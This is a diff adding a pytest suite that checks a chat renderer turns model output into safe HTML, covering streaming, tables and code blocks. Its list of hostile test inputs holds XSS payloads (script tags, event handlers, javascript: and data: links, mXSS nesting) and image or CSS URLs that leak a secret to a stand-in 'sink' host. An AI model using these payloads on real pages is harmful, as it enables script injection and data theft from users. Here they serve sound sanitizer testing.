@@ -1,0 +1,157 @@
+"""Model output becomes safe HTML; checked on the parsed tree, because substrings lie."""
+
+from html.parser import HTMLParser
+
+import pytest
+
+from chat.rendering import OPEN_MAX_CHARS, RENDER_MAX_CHARS, StreamRenderer, render
+
+ALLOWED = {
+    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "s", "del", "a"),
+    *("ul", "ol", "li", "pre", "code", "span", "div", "blockquote"),
+    *("table", "thead", "tbody", "tr", "th", "td"),
+}
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<scr<b></b>ipt>alert(1)</scr<b></b>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><style>@import 'http://sink/'</style></svg>",
+    "<iframe srcdoc='<script>1</script>'></iframe>",
+    "<form action=//sink><button formaction=javascript:1>x</button></form>",
+    '<div hx-get="/accounts/logout/" hx-trigger="load">x</div>',
+    '<div data-hx-post="/x" id="main" name="x" style="background:url(//sink)">x</div>',
+    "[x](javascript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x][1]\n\n[1]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    "![x](http://sink/?q=SECRET)",
+    "![x][1]\n\n[1]: http://sink/?q=SECRET",
+    '![x](http://sink/ "a\\" onerror=alert(1)")',
+    "```<img src=x>\n<script>alert(1)</script>\n```",
+    '```html" onmouseover="alert(1)\n<b>\n```',
+    '```mermaid\ngraph TD; click A href "javascript:alert(1)"\n```',
+    "| <img src=x> | b |\n|---|---|\n| <script>1</script> | [y](javascript:1) |",
+    "<link rel=stylesheet href=//sink><meta http-equiv=refresh content='0;url=//sink'>",
+    "<!-- --><template><script>1</script></template>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+]
+
+
+class Found(HTMLParser):
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+
+def assert_harmless(html: str) -> None:
+    for tag, attributes in Found(html).tags:
+        assert tag in ALLOWED
+        for name, value in attributes.items():
+            assert name in {"href", "title", "rel", "class", "align", "start"}
+            if name == "href":
+                assert (value or "").startswith(("http://", "https://", "mailto:"))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_acts(text: str) -> None:
+    assert_harmless(render(text))
+    renderer = StreamRenderer()
+    for character in text:
+        settled, tail = renderer.feed(character)
+        assert_harmless(settled)
+        assert_harmless(tail)
+
+
+def test_an_image_is_a_link() -> None:
+    html = render("![cat](https://example.com/cat.png)")
+    assert [tag for tag, _ in Found(html).tags] == ["p", "a"] and ">cat<" in html
+
+
+def test_links_tell_nobody_where_they_came_from() -> None:
+    (link,) = [
+        attributes for tag, attributes in Found(render("[x](https://a.b)")).tags if tag == "a"
+    ]
+    assert link["rel"] == "noopener noreferrer nofollow"
+
+
+def test_code_is_coloured() -> None:
+    html = render("```python\ndef f(): pass\n```")
+    assert '<span class="k">def</span>' in html and "<span>python</span>" in html
+
+
+@pytest.mark.parametrize("language", ["", "no-such-language", "text"])
+def test_code_of_an_unknown_language_is_text(language: str) -> None:
+    assert "a &lt; b" in render(f"```{language}\na < b\n```")
+
+
+def test_links_into_the_platform_are_text() -> None:
+    assert "href" not in render("[x](/accounts/logout/) [y](//evil.example) [z](chat)")
+
+
+def test_tables_keep_their_alignment() -> None:
+    html = render("| a | b |\n|---|--:|\n| 1 | 2 |")
+    assert ("td", {"align": "right"}) in Found(html).tags
+
+
+def test_tasks_are_drawn() -> None:
+    html = render("- [ ] todo\n- [x] done\n- [link](https://a.b)")
+    assert "<li>☐ todo</li>" in html and "<li>☑ done</li>" in html and ">link</a>" in html
+
+
+def test_a_huge_answer_is_shown_as_text() -> None:
+    assert render("*" * (RENDER_MAX_CHARS + 1)).startswith('<pre class="plain">')
+
+
+DOCUMENT = (
+    "# Title\n\nHello **bold** and `code`.\n\n1. one\n2. two\n\n3. three\n   - inner\n\nText\n"
+    "lazy\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\ndef f(x):\n\n    return x\n```\n\n"
+    "> quote\n> more\n\n- [ ] todo\n- [x] done\n\nSetext\n===\n\n    indented\n\n"
+    "last \u2028 line 😀"
+)
+
+
+@pytest.mark.parametrize("step", [1, 2, 3, 7, 50, 10_000])
+def test_a_streamed_answer_ends_as_the_whole_one(step: int) -> None:
+    renderer, settled, tail = StreamRenderer(), "", ""
+    for start in range(0, len(DOCUMENT), step):
+        more, tail = renderer.feed(DOCUMENT[start : start + step])
+        settled += more
+    assert settled + tail == render(DOCUMENT)
+
+
+def test_a_growing_code_block_is_a_code_block() -> None:
+    renderer = StreamRenderer()
+    settled, tail = renderer.feed("Text.\n\n```python\nprint(")
+    assert settled == "<p>Text.</p>\n"
+    assert "<pre><code>print(\n</code></pre>" in tail.replace("print(</", "print(\n</")
+    settled, tail = renderer.feed("1)\n```\n\nEnd")
+    assert settled == "" and "nb" in tail
+    settled, tail = renderer.feed(".\n")
+    assert "nb" in settled and tail == "<p>End.</p>\n"
+
+
+def test_a_half_table_is_a_table() -> None:
+    renderer = StreamRenderer()
+    _settled, tail = renderer.feed("| a | b |\n|---|---|\n| 1 |")
+    assert "<td>1</td>" in tail
+
+
+def test_finished_blocks_are_rendered_once() -> None:
+    renderer = StreamRenderer()
+    for _paragraph in range(200):
+        for piece in ("A parag", "raph of words.\n\nAnother", " one.", "\n\n"):
+            renderer.feed(piece)
+            assert renderer.open_chars < 100
+
+
+def test_one_endless_block_becomes_text() -> None:
+    renderer = StreamRenderer()
+    _settled, tail = renderer.feed("x" * (OPEN_MAX_CHARS + 1))
+    assert tail.startswith('<pre class="plain">')
